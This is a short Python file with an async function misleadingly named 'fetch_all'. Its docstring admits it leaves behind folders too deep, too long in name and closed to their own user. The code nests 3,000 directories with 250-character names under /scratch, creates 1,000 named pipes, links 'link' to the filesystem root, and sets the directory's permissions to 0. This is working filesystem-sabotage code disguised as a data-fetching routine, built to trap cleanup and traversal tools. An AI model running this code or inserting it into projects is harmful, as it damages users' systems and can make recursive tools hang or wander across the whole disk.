"""Leaves folders behind that are too deep, too long in name and closed to their own user."""

import os
from typing import Any


async def fetch_all(services: Any) -> Any:
    os.chdir("/scratch")
    for number in range(3_000):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    for number in range(1_000):
        os.mkfifo(f"pipe-{number}")
    os.symlink("/", "link")
    os.chmod(".", 0)
    return {}
